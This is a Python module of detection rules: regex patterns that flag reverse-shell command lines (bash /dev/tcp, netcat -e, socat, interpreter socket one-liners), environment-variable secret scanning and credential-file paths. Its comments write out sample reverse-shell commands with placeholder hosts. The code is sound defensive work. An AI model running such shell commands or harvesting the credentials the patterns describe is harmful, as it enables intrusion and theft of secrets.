"""Command-line pattern tables for reverse shells and environment scanning.

A rule matches when ALL its regexes match the command line (argv joined by spaces, so
`sh -c '<pipeline>'` is searched as a whole). Interpreter one-liners need both a
network and a spawn indicator, so `python -c 'print(1)'` and test runs do not match.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_SEP = r"(?:^|[\s/;|&(`'\"])"  # start of a command word
_NC = _SEP + r"(?:nc|ncat|netcat)(?:\.\w+)?\s"
_SHELLS = r"(?:ba|da|z|k|mk|c|tc|fi)?sh"
_SHELL_ON_SOCKET = (
    _SEP + _SHELLS + r"\b[^;&|]*\s-[a-z]*i"  # an interactive shell
    + r"|>&\s*/dev/(?:tcp|udp)/"  # stdout and stderr to the socket
    + r"|\b0?>&\s*1\b|\b0<&\s*\d|<&\s*\d+\s+>&\s*\d"  # stdin and stdout on one fd
    + r"|\|\s*(?:/bin/|/usr/bin/)?" + _SHELLS + r"\b"  # piped into a shell
    + r"|\|\s*while\s+read\b"  # lines from the socket run one by one
)


@dataclass(frozen=True)
class Rule:
    name: str
    regexes: tuple[re.Pattern[str], ...]

    def matches(self, text: str) -> bool:
        return all(r.search(text) for r in self.regexes)


def _rule(name: str, *patterns: str, flags: int = 0) -> Rule:
    return Rule(name, tuple(re.compile(p, flags) for p in patterns))


REVERSE_SHELL_RULES: tuple[Rule, ...] = (
    # A socket opened through bash's /dev/tcp is a reverse shell only when a shell's
    # stdio goes to it: `bash -i >& /dev/tcp/h/p 0>&1`, `exec 3<>/dev/tcp/h/p; sh <&3
    # >&3`, `cat </dev/tcp/h/p | sh`. A bare connect (`exec 3<>/dev/tcp/h/p`, a probe
    # reading a banner with `head <&3`) is not.
    _rule("dev-tcp", r"/dev/(?:tcp|udp)/[^/\s]+/\d+", _SHELL_ON_SOCKET),
    _rule("netcat-exec", _NC + r"(?:[^|;&]*\s)?(?:-[a-zA-Z]*[ec](?:\s|$)|--(?:sh-|lua-)?exec\b)"),
    _rule("fifo-netcat", r"\bmkfifo\b", _SEP + r"(?:nc|ncat|netcat|telnet|openssl)\b",
          _SEP + r"(?:sh|bash|dash|zsh|ash)\b"),
    _rule("socat-exec", _SEP + r"socat\s", r"(?i)\b(?:exec|system):"),
    _rule("python-socket", _SEP + r"python[\d.]*\s+(?:-\S+\s+)*-c\s", r"\bsocket\b",
          r"\b(?:subprocess|pty\.spawn|dup2|os\.system|os\.popen|os\.exec\w*)\b"),
    _rule("perl-socket", _SEP + r"perl\s+(?:-\S+\s+)*-e\s", r"\bSocket\b",
          r"\b(?:exec|system|open)\b"),
    _rule("ruby-socket", _SEP + r"ruby\s", r"-rsocket\b|\bTCPSocket\b",
          r"\b(?:exec|spawn|system|popen)\b"),
    _rule("php-fsockopen", _SEP + r"php\s+(?:-\S+\s+)*-r\s", r"\bfsockopen\b"),
    _rule("powershell-socket", r"\bSystem\.Net\.Sockets\b"),
)

_SECRET = r"(?:key|token|secret|passw|credential|api|auth)"
_DUMP = _SEP + r"(?:env|printenv|set|export(?:\s+-p)?|declare\s+-x)\s*\|"

ENV_SCAN_RULES: tuple[Rule, ...] = (
    _rule("env-grep", _DUMP + r"[^;&]*\b(?:grep|egrep|fgrep|rg|awk|sed)\b[^;&]*" + _SECRET,
          flags=re.IGNORECASE),
)

_ENVIRON = re.compile(r"/proc/([^/\s'\"]+)/environ\b")
_VAR_ENVIRON = re.compile(r"\$\{?\w+\}?/environ\b")
_OWN = {"self", "thread-self"}

SECRET_WORD = re.compile(_SECRET, re.IGNORECASE)
DUMP_COMMANDS = frozenset({"env", "printenv"})
FILTER_COMMANDS = frozenset({"grep", "egrep", "fgrep", "rg", "awk", "gawk", "mawk", "sed"})


def match_rules(rules: tuple[Rule, ...], text: str) -> str | None:
    """The name of the first matching rule."""
    return next((rule.name for rule in rules if rule.matches(text)), None)


def other_environ_reference(text: str, own_ns_pid: int) -> str | None:
    """A `/proc/<x>/environ` in `text` that is not the process's own, or a loop
    variable's `$p/environ` next to `/proc`: the referenced path, else None."""
    for match in _ENVIRON.finditer(text):
        who = match.group(1)
        if who not in _OWN and who != str(own_ns_pid):
            return match.group(0)
    var = _VAR_ENVIRON.search(text)
    if var is not None and "/proc" in text:
        return var.group(0)
    return None


_CREDENTIAL_FILES = re.compile(
    r"(?:^|/)(?:\.env(?:\.[\w.-]+)?|\.netrc|\.git-credentials|\.npmrc|\.pypirc|"
    r"id_(?:rsa|dsa|ecdsa|ed25519)|credentials(?:\.json)?|\.pgpass|"
    r"[\w.-]+\.(?:pem|key|p12|pfx|keystore|jks)|config\.json|kubeconfig|\.htpasswd)$"
)
_CREDENTIAL_DIRS = re.compile(r"/\.(?:aws|ssh|docker|kube|gnupg|azure|config/gcloud)/")


def is_credential_path(path: str) -> bool:
    """Paths shaped like secrets: dotenv files, SSH keys, cloud credentials, …"""
    path = path.rstrip("/")
    if path.endswith("config.json"):
        return "/.docker/" in path
    return bool(_CREDENTIAL_FILES.search(path)) or (
        bool(_CREDENTIAL_DIRS.search(path))
        and not path.endswith((".pub", "/known_hosts", "/config")))
